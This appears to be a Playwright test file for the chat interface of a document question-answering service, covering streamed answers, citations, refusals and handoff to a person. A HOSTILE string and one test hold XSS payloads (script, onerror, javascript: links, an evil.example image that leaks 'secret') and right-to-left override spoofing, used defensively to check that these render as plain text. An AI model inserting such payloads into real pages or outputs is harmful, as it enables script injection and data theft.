@@ -1,0 +1,368 @@
+"""The chat: asking, the answer as it arrives, its citations, refusals, a person's answer, what one can do with it."""
+
+import json
+import re
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from playwright.sync_api import Locator, Page, Route, expect
+
+from local.stack import users
+from local.stack.laptop import Laptop
+from tests.support.answer_stream import AnswerStream, answer, citation, claim, source
+from tests.support.looking import too_wide
+
+type Opened = Callable[..., Page]
+type Heard = Any
+
+BOILERS = "How often are the coffee boilers descaled?"
+MOON = "What does the moon weigh?"
+MANUAL = "Brunata Duo espresso machine"
+
+pytestmark = pytest.mark.usefixtures("samples")
+
+
+def box(page: Page) -> Locator:
+    return page.get_by_role("textbox", name="Your question")
+
+
+def ask(page: Page, question: str) -> Locator:
+    """Ask, and return the place of the answer."""
+    box(page).fill(question)
+    box(page).press("Enter")
+    return page.get_by_role("article", name=f"Answer to: {question}").last
+
+
+def answered(page: Page, question: str) -> Locator:
+    """Ask the service, and return the finished answer."""
+    found = ask(page, question)
+    expect(found.get_by_role("button", name="Copy with sources")).to_be_visible()
+    return found
+
+
+# --- with the service
+
+
+def test_an_answer_tells_what_it_was_made_from(open_page: Opened) -> None:
+    page = open_page("reader")
+    found = answered(page, BOILERS)
+    found.get_by_role("button", name="How this answer was made").click()
+    dialog = page.get_by_role("dialog")
+    for part in ("Searched for", BOILERS, "Passages", "Relevance / needed"):
+        expect(dialog).to_contain_text(part)
+    with page.expect_download() as got:
+        dialog.get_by_role("button", name="Save the whole receipt").click()
+    receipt = json.loads(got.value.path().read_text(encoding="utf-8"))
+    assert receipt["question"] == BOILERS
+    assert f"receipt-{receipt['message_id']}.json" == got.value.suggested_filename
+
+
+def test_an_answer_that_may_not_be_read_any_more_says_so(open_page: Opened, laptop: Laptop) -> None:
+    with laptop.client(users.READER, streaming=True) as client:
+        conversation = client.query("Thank you!")["conversation_id"]
+    page = open_page("reader")
+
+    def withhold(route: Route) -> None:
+        told = route.fetch().json()
+        told["messages"][1] |= {"content": "Not shown.", "citations": [], "claims": [], "withheld": True}
+        route.fulfill(json=told)
+
+    page.route(f"**/conversations/{conversation}?*", withhold)
+    page.goto(f"{page.url.split('#')[0]}#/c/{conversation}")
+    found = page.get_by_role("article", name="Answer to: Thank you!")
+    expect(found).to_contain_text("you may no longer read a document that it was made from")
+    expect(found.get_by_role("button", name="Answer anew")).to_be_visible()
+    for name in ("Copy with sources", "A good answer", "How this answer was made"):
+        expect(found.get_by_role("button", name=name)).to_have_count(0)
+
+
+def test_an_answer_shows_its_sources_and_opens_them(open_page: Opened) -> None:
+    page = open_page("reader")
+    found = answered(page, BOILERS)
+    expect(page).to_have_url(re.compile(r"#/c/\w{26}$"))
+    chip = found.get_by_role("button", name=re.compile(rf"^Source 1, {MANUAL}.*, page 3, confirmed$"))
+    chip.focus()
+    card = found.get_by_role("group", name="Source")
+    for part in (MANUAL, "page 3", "page 5 of the file", "manual", ".pdf", "citric acid"):
+        expect(card).to_contain_text(part, ignore_case=True)
+    expect(card).to_contain_text("Confirmed: the quote says this.")
+    page.keyboard.press("Escape")
+    expect(card).to_be_hidden()
+    sources = found.get_by_role("region", name="Sources")
+    expect(sources.get_by_role("heading", name="Cited")).to_be_visible()
+    sources.get_by_text("Also read, not quoted").click()
+    expect(sources.get_by_role("checkbox").nth(1)).to_be_visible()
+    chip.click()
+    pane = page.get_by_role("complementary").or_(page.get_by_role("region", name=re.compile(MANUAL)))
+    expect(pane.first).to_be_visible()
+    page.reload()
+    expect(page.get_by_role("article").get_by_role("button", name=re.compile("^Source 1, ")).first).to_be_visible()
+
+
+def test_the_next_question_is_limited_to_the_ticked_documents(open_page: Opened) -> None:
+    visitors = "How many visitors did the museum receive?"
+    page = open_page("reader")
+    found = answered(page, BOILERS)
+    found.get_by_role("checkbox", name=re.compile(MANUAL)).first.check()  # other tests upload it, too
+    limits = page.get_by_role("list", name="Only in:")
+    expect(limits).to_contain_text(MANUAL)
+    limited = answered(page, visitors)
+    expect(limited).to_contain_text(f"Only in: {MANUAL}")
+    expect(limited).not_to_contain_text("86,412")
+    limits.get_by_role("button", name=re.compile("^Do not limit")).click()
+    expect(limits).to_be_hidden()
+    expect(answered(page, visitors)).to_contain_text("86,412")
+
+
+def test_a_refused_question_goes_to_a_person_who_answers_in_the_conversation(open_page: Opened, laptop: Laptop) -> None:
+    page = open_page("reader")
+    found = answered(page, MOON)
+    expect(found.get_by_role("heading", name="The documents do not answer this")).to_be_visible()
+    expect(found).to_contain_text("Nothing in the documents comes near enough")
+    expect(found.get_by_role("button", name="Show what came nearest")).to_be_hidden()
+    found.get_by_role("button", name="Ask a person").click()
+    page.get_by_role("dialog").get_by_label("What should they know?").fill("For a school trip.")
+    with page.expect_response(re.compile(r"/handoff$")) as opened:
+        page.get_by_role("dialog").get_by_role("button", name="Ask", exact=True).click()
+    expect(page.get_by_text("A person has been asked")).to_be_visible()
+    handoff = opened.value.json()
+    page.reload()
+    expect(page.get_by_text("A person has been asked")).to_be_visible()
+    with laptop.client(users.AGENT, streaming=True) as agent:
+        agent.request("POST", f"/handoffs/{handoff['handoff_id']}/claim")
+        answer_text = "About 7.3 × 10²² kg."
+        agent.request("POST", f"/handoffs/{handoff['handoff_id']}/resolve", json={"answer": answer_text})
+    page.evaluate("() => dispatchEvent(new Event('focus'))")
+    person = page.get_by_role("article", name="Answered by a person")
+    expect(person).to_contain_text(answer_text)
+    expect(page.get_by_text("A person has been asked")).to_be_hidden()
+
+
+def test_editors_see_what_came_nearest(open_page: Opened) -> None:
+    page = open_page("editor")
+    found = answered(page, MOON)
+    found.get_by_role("button", name="Show what came nearest").click()
+    near = found.get_by_role("region", name="Near misses")
+    expect(near).to_contain_text("an answer needs 35%")
+    assert near.get_by_role("listitem").count() == 3
+
+
+def test_an_answer_is_rated_and_the_rating_kept(open_page: Opened) -> None:
+    page = open_page("reader")
+    found = answered(page, BOILERS)
+    down = found.get_by_role("button", name="Not a good answer")
+    down.click()
+    expect(down).to_have_attribute("aria-pressed", "true")
+    found.get_by_role("radio", name="Incomplete").check()
+    found.get_by_label("What would have been right?").fill("The steam boiler is missing.")
+    found.get_by_role("button", name="Send").click()
+    expect(page.get_by_text("Thank you. Editors read this.")).to_be_visible()
+    page.reload()
+    expect(down).to_have_attribute("aria-pressed", "true")
+    down.click()
+    expect(down).to_have_attribute("aria-pressed", "false")
+
+
+def test_an_answer_is_copied_with_its_sources(open_page: Opened) -> None:
+    page = open_page("reader", permissions=["clipboard-read", "clipboard-write"])
+    answered(page, BOILERS).get_by_role("button", name="Copy with sources").click()
+    expect(page.get_by_text("Copied with its sources.")).to_be_visible()
+    copied = page.evaluate("() => navigator.clipboard.readText()")
+    assert copied.startswith("The coffee boilers are descaled every 12 months")
+    assert "[1] Brunata Duo espresso machine: Maintenance manual for models BD-2 and BD-3, page 3" in copied
+    assert "“The coffee boilers are descaled every 12 months with citric acid" in copied
+
+
+def test_a_question_is_asked_anew_edited_and_taken_up_again(open_page: Opened) -> None:
+    page = open_page("reader")
+    found = answered(page, BOILERS)
+    stream = AnswerStream(page)
+    found.get_by_role("button", name="Answer anew").click()
+    stream.done(answer("Every year."))
+    expect(page.get_by_role("article")).to_have_count(2)
+    assert stream.asked == [{"question": BOILERS, "fresh": True}]
+    found.first.get_by_role("button", name="Edit the question").first.click()
+    expect(box(page)).to_have_value(BOILERS)
+    box(page).fill("")
+    box(page).press("ArrowUp")
+    expect(box(page)).to_have_value(BOILERS)
+
+
+def test_three_questions_about_the_documents_are_offered_and_answered(open_page: Opened) -> None:
+    page = open_page("reader")
+    examples = page.get_by_role("region", name="Questions to begin with").get_by_role("button")
+    expect(examples).to_have_count(3)
+    question = examples.first.inner_text()
+    examples.first.click()
+    found = page.get_by_role("article", name=f"Answer to: {question}")
+    expect(found.get_by_role("button", name="Copy with sources")).to_be_visible()
+    expect(found.get_by_role("heading", name="The documents do not answer this")).to_be_hidden()
+
+
+def test_what_is_typed_outlives_a_reload(open_page: Opened) -> None:
+    page = open_page("reader")
+    box(page).fill("Half a quest")
+    box(page).press("Shift+Enter")
+    page.reload()
+    expect(box(page)).to_have_value("Half a quest\n")
+
+
+# --- with an answer that the test sends itself
+
+
+def test_progress_is_told_in_words_and_half_a_marker_is_not_shown(open_page: Opened) -> None:
+    page = open_page("reader")
+    stream = AnswerStream(page)
+    found = ask(page, BOILERS)
+    expect(found).to_contain_text("Searching the documents …")
+    stream.emit("sources", sources=[source(1, 3), source(1, 4), source(2, 4)])
+    expect(found).to_contain_text("Reading 3 passages of 2 documents …")
+    stream.emit("citation", **citation(2))
+    stream.emit("delta", text="Every year. [2] Then again [")
+    expect(found).to_contain_text("Writing; each statement is checked before it appears …")
+    expect(found.get_by_role("button", name=re.compile("^Source 1, Handbook 2"))).to_be_visible()
+    expect(found).not_to_contain_text("[")
+    expect(found).to_contain_text("Checking the next statement against its source …")
+    page.keyboard.press("Escape")
+    expect(found).to_contain_text("You stopped this answer.")
+    assert stream.stopped == 1
+    found.get_by_role("button", name="Ask again").click()
+    stream.done(answer("Every two years. [1]", [citation(1)], [claim("Every two years.", 1)]))
+    expect(found).to_contain_text("Every two years.")
+    expect(found).to_contain_text("The statement is confirmed by its quotes.")
+    assert [each["question"] for each in stream.asked] == [BOILERS, BOILERS]
+
+
+def test_citations_are_numbered_by_appearance_and_say_in_words_how_well_they_hold(
+    open_page: Opened, look: Callable[..., None]
+) -> None:
+    page = open_page("reader")
+    stream = AnswerStream(page)
+    found = ask(page, BOILERS)
+    claims = [
+        claim("It is cleaned weekly.", 3, 1, derived="7 days = 1 week"),
+        claim("It takes an hour.", 2, verdict="unconfirmed"),
+    ]
+    text = "It is cleaned weekly. [3] [1] It takes an hour (unconfirmed). [2] See [9].\n\n- **Filter**: yearly [1]\n"
+    support = {"claims": 3, "confirmed": 1, "unconfirmed": 1, "dropped": 1, "flags": []}
+    more = {"support": support, "rewritten": "How is the tank cleaned?", "dropped_citations": 2}
+    more["warnings"] = ["hybrid_search_unavailable", "model_refused", "rerank_unavailable"]
+    read = [source(3, 5), source(1, 9), source(4, 4)]
+    cited = [citation(1), citation(2, title="Guide " + "x" * 200), citation(3)]
+    stream.done(answer(text, cited, claims, sources=read, suggestions=["What does it cost?"], cached=True, **more))
+    for words in (
+        "1 of 2 statements unconfirmed: the quotes are about it, but do not say quite that.",
+        "1 statement was left out, because nothing in the documents supports it.",
+        "Answered from memory",
+        "Searched for: How is the tank cleaned?",
+        "A part of the search did not answer",
+        "The model that writes answers could not be reached.",
+        "2 references were removed",
+        "Also read, not quoted: 2 passages",
+        "See [9].",
+    ):
+        expect(found).to_contain_text(words)
+    first = found.get_by_role("button", name="Source 1, Handbook 3, page 3, confirmed")
+    expect(found.get_by_role("button", name=re.compile("^Source 3, Guide x+, page 2, unconfirmed$"))).to_be_visible()
+    first.focus()
+    card = found.get_by_role("group", name="Source")
+    expect(card).to_contain_text("Calculated: 7 days = 1 week")
+    expect(card).to_contain_text("1 of 2")
+    look(page, "chat-answer")
+    first.focus()
+    page.keyboard.press("ArrowRight")
+    expect(card).to_contain_text("Handbook 1")
+    page.keyboard.press("Escape")
+    expect(card).to_be_hidden()
+    first.hover()
+    expect(card).to_contain_text("Handbook 3")
+    page.mouse.move(0, 0)
+    expect(card).to_be_hidden()
+    found.get_by_role("button", name="What does it cost?").click()
+    expect(page.get_by_role("article", name="Answer to: What does it cost?")).to_be_visible()
+
+
+HOSTILE = (
+    '<img src="https://evil.example/a.png" onerror="document.title=1"> ![p](https://evil.example/p.png?q=secret) '
+    "[click](javascript:alert(1)) <script>document.title = 'owned'</script> <iframe src=//evil.example></iframe> "
+    "[ref][1] [1]\n\n[1]: https://evil.example/x\n\n> 5 mm\n\n<style>* { display: none }</style>\n\n"
+    "\u202eelif.exe\u202c " + "W" * 400 + "\n\n<a href='https://evil.example'>link</a> https://evil.example/auto [1]"
+)
+
+
+def test_a_hostile_answer_is_shown_as_the_text_that_it_is(open_page: Opened) -> None:
+    page = open_page("editor")
+    page.set_viewport_size({"width": 360, "height": 740})
+    stream = AnswerStream(page)
+    ask(page, "<b>What</b> \u202egnihtyna?")
+    found = page.get_by_role("article", name="Answer to: <b>What</b> gnihtyna?")
+    bad = "<img src=x onerror=alert(1)>\u202e.fdp " + "Q" * 300
+    hostile = citation(1, title=bad, quote=bad, section=bad, file_name=bad)
+    more = {"rewritten": bad, "suggestions": [bad], "sources": [source(1, 3) | {"title": bad}, source(2, 4)]}
+    stream.done(answer(HOSTILE, [hostile], [claim("5 mm", 1, derived=bad)], **more))
+    expect(found).to_contain_text('<img src="https://evil.example/a.png"')
+    expect(found).to_contain_text("<script>document.title = 'owned'</script>")
+    expect(found).to_contain_text("> 5 mm")
+    chip = found.get_by_role("button", name=re.compile("^Source 1, <img")).first
+    chip.focus()
+    expect(found.get_by_role("group", name="Source")).to_contain_text("<img src=x onerror=alert(1)>.fdp")
+    main = page.get_by_role("main")
+    assert main.locator("img, script, iframe, a, style, object, form[action]").count() == 0
+    assert main.evaluate("(main) => /[\\u202a-\\u202e\\u2066-\\u2069]/.test(main.textContent)") is False
+    assert page.title() != "owned"
+    assert too_wide(page) == []
+    assert main.evaluate("(main) => main.scrollWidth - main.clientWidth") == 0
+
+
+def test_a_failed_question_says_what_to_do_and_is_asked_again(open_page: Opened, heard: Heard) -> None:
+    page = open_page("reader")
+    stream = AnswerStream(page)
+    stream.fail_next(503, "unavailable")
+    found = ask(page, BOILERS)
+    alert = found.get_by_role("alert")
+    expect(alert).to_contain_text("No answer came")
+    expect(alert).to_contain_text("Try again in a minute")
+    alert.get_by_role("button", name="Try again").click()
+    stream.emit("delta", text="Every ye")
+    stream.end()  # cut off
+    expect(found).to_contain_text("Every ye")
+    expect(alert).to_contain_text("cannot be reached")
+    alert.get_by_role("button", name="Try again").click()
+    stream.done(answer("Every year. [1]", [citation(1)], [claim("Every year.", 1)]))
+    expect(found).to_contain_text("Every year.")
+    expect(alert).to_be_hidden()
+
+
+def test_an_answer_goes_on_while_one_looks_at_something_else(open_page: Opened) -> None:
+    page = open_page("reader")
+    stream = AnswerStream(page)
+    found = ask(page, BOILERS)
+    stream.emit("delta", text="Every ")
+    page.get_by_role("link", name="Documents").first.click()
+    expect(found).to_be_hidden()
+    stream.emit("delta", text="year.")
+    page.get_by_role("link", name="New chat").first.click()
+    expect(found).to_contain_text("Every year.")
+
+
+def test_the_chat_in_lithuanian(open_page: Opened) -> None:
+    page = open_page("reader", locale="lt-LT")
+    stream = AnswerStream(page)
+    expect(page.get_by_role("heading", name="Ką norėtumėte sužinoti?")).to_be_visible()
+    page.get_by_role("textbox", name="Jūsų klausimas").fill("Kada?")
+    page.keyboard.press("Enter")
+    stream.emit("sources", sources=[source(1, 3), source(1, 4)])
+    expect(page.get_by_text("Skaitoma: 2 ištraukos iš 1 dokumento …")).to_be_visible()
+    stream.done(answer("Kasmet. [1]", [citation(1)], [claim("Kasmet.", 1)]))
+    expect(page.get_by_text("Teiginį patvirtina jo citatos.")).to_be_visible()
+    expect(page.get_by_role("button", name="1 šaltinis, Handbook 1, psl. 1, patvirtinta")).to_be_visible()
+
+
+def test_the_chat_looks_well(open_page: Opened, look: Callable[..., None]) -> None:
+    page = open_page("editor")
+    expect(page.locator("[aria-busy=false]")).to_be_visible()
+    look(page, "chat-welcome")
+    answered(page, BOILERS)
+    answered(page, MOON).get_by_role("button", name="Not a good answer").click()
+    look(page, "chat-refusal")
